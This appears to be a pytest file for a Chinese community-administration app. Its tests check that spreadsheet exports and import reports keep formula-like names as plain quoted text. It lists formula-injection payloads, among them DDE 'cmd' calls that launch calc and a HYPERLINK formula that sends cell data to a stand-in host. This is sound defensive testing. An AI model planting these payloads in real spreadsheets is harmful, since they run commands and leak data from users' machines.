"""Formula injection: every spreadsheet the program writes keeps hostile text
(``=cmd|'/C calc'!A0`` as a resident's name, from a ledger or the form) as
text — never a formula — and readable as typed."""

from __future__ import annotations

from datetime import date, timedelta

import openpyxl
from sqlalchemy import select

from db.models import Certificate, Resident, Volunteer
from desktop import paperwork
from desktop.documents import sheets
from desktop.services import counter, demo, ledger, reports
from desktop.services.demo import (
    certificates as demo_certificates,
    counter as demo_counter,
    volunteers as demo_volunteers,
)
from desktop.services.reports import Period

# OWASP's list: = + - @ tab and carriage return at the start.
HOSTILE = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
]


def cells(path):
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_no_formulas(path, *expected):
    got = cells(path)
    formulas = [(c.coordinate, c.value) for c in got if c.data_type == "f"]
    assert not formulas, formulas
    texts = {c.value for c in got if isinstance(c.value, str)}
    for text in expected:  # read back exactly as typed
        assert text in texts, (text, path.name)
    risky = [c for c in got if isinstance(c.value, str) and c.value.startswith(sheets.FORMULA_START)]
    assert risky and all(c.quotePrefix for c in risky)  # Excel keeps them text when edited, too
    return got


def test_the_writer_stores_formula_like_text_as_text(tmp_path):
    out = sheets.write_workbook(
        tmp_path / "t.xlsx",
        [
            ("=A1", HOSTILE[:3], [[h, 1, date(2026, 1, 1)] for h in HOSTILE], {0: "@"}),
        ],
    )
    got = assert_no_formulas(out, *HOSTILE[:5], HOSTILE[6])
    numbers = [c for c in got if c.value == 1]
    assert numbers and all(c.data_type == "n" for c in numbers)  # numbers stay numbers


def _hostile_station(station):
    db, admin = station
    demo.fill_demo(db, n_residents=60, seed=2)
    demo_counter.fill_counter(db, n_matters=40, seed=2)
    demo_certificates.fill_certificate_history(db, days=20, seed=2)
    demo_volunteers.fill_volunteers(db, n_volunteers=8, n_needs=4, seed=2)
    demo_volunteers.fill_volunteer_history(db, days=20, seed=2)
    with db.session() as s:  # as a ledger import or the form could have saved them
        for model in (Resident, Volunteer):
            for i, obj in enumerate(s.scalars(select(model).order_by(model.id))):
                obj.name = HOSTILE[i % len(HOSTILE)]
        for c in s.scalars(select(Certificate)):
            c.purpose = HOSTILE[0]
    return db, admin


def test_every_export_keeps_hostile_names_as_text(station, tmp_path):
    db, admin = _hostile_station(station)
    today = counter.local_today()
    start = today - timedelta(days=40)
    period = Period(start, today, "近四十天")
    report = reports.build(db, admin, period)
    written = [
        paperwork.export_certificate_ledgers(db, tmp_path / "certs.xlsx", start=start, end=today),
        paperwork.export_volunteer_hours(db, tmp_path / "hours.xlsx", start, today),
        paperwork.export_report_excel(report, tmp_path / "report.xlsx"),
    ]
    # the reports page's 明细 export: a drill into a figure with residents' names
    drills = [f.drill for sec in report.sections for f in sec.figures if f.drill is not None]
    recs = next(
        r
        for r in (reports.records(db, admin, report, d) for d in drills)
        if any(HOSTILE[0] in map(str, row) for row in r.rows)
    )
    written.append(sheets.write_workbook(tmp_path / "records.xlsx", [("明细", recs.columns, recs.rows)]))
    for path in written:
        assert_no_formulas(path)
    assert_no_formulas(written[0], HOSTILE[0])  # purpose and applicant
    assert_no_formulas(written[1], *HOSTILE[:2])  # volunteers' names
    assert_no_formulas(written[3], HOSTILE[0])


def test_the_import_problem_report_keeps_hostile_cells_as_text(station, tmp_path):
    db, admin = station
    sheets.write_workbook(
        tmp_path / "台账.xlsx",
        [
            (
                "台账",
                ["姓名", "性别", "身份证号码", "联系电话", "=cmd|'/C calc'!A0"],
                [
                    ["=cmd|'/C calc'!A0", "女", "123", "+86 1390000", "@x"],
                    ["-1+cmd|'/C calc'!A0", "男", "", "-5", "=1+1"],
                ],
            )
        ],
    )  # text cells, as a ledger typed in Excel holds them
    rep = ledger.import_ledger(db, admin, tmp_path / "台账.xlsx", dry_run=True)
    assert rep.errors
    out = paperwork.save_import_report(rep, tmp_path / "问题清单")
    assert out.name == "问题清单.xlsx"
    assert_no_formulas(out, "=cmd|'/C calc'!A0", "-1+cmd|'/C calc'!A0", "+86 1390000")
